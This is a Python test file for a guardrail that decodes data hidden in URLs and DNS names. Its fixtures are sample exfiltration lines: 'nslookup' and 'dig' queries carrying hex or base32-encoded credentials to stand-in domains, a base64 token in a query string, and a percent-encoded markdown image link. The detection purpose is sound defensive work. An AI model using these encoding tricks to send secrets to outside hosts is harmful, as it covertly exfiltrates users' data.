"""The parts of URLs and host names are decoded in the encodings they can hold."""

from __future__ import annotations

import base64

from guardrail.address_payloads import address_payloads


def decoded(text: str) -> list[str]:
    return [plain for _, plain in address_payloads(text)]


def test_hex_and_base32_dns_labels_are_decoded() -> None:
    """Case-insensitive names carry hex and base32: both are read back."""
    hexed = b"ana@mail.org".hex()
    b32 = base64.b32encode(b"Wt7!kPq29-Lz").decode().rstrip("=").lower()
    assert "ana@mail.org" in decoded(f"nslookup {hexed}.d.zone-x.net")
    assert "Wt7!kPq29-Lz" in decoded(f"dig {b32}.v.zone-y.io")


def test_base64_query_values_are_decoded_after_the_equals_sign() -> None:
    """A padded base64 value right after ``k=`` is read, padding and all."""
    value = base64.b64encode(b"shpat_1a2b3c4d5e").decode()
    assert "shpat_1a2b3c4d5e" in decoded(f"https://h.example-x.dev/t?k={value}")


def test_needless_percent_escapes_are_decoded() -> None:
    """Digits written as ``%34%37`` are hidden on purpose and read back."""
    assert "4716 22" in decoded("![s](https://cdn.x-badge.click/b?c=%34%37%31%36%20%32%32)")


def test_ordinary_urls_decode_to_nothing() -> None:
    """Words, ids and random tokens in an address are not taken for encoded text."""
    url = "https://api.github.com/repos/acme/widgets/commits/9f3ab27c1d?per_page=50&q=open%20bugs"
    assert decoded(url) == []


def test_a_value_split_over_labels_before_a_fixed_label_is_joined() -> None:
    """Base32 pieces in two labels, then a constant ``chk`` label, decode as one value."""
    first = base64.b32encode(b"Qx7!marlin").decode().lower()
    second = base64.b32encode(b"-Delta-2025").decode().rstrip("=").lower()
    assert "Qx7!marlin-Delta-2025" in decoded(f"dig {first}.{second}.chk.h-dns.net")
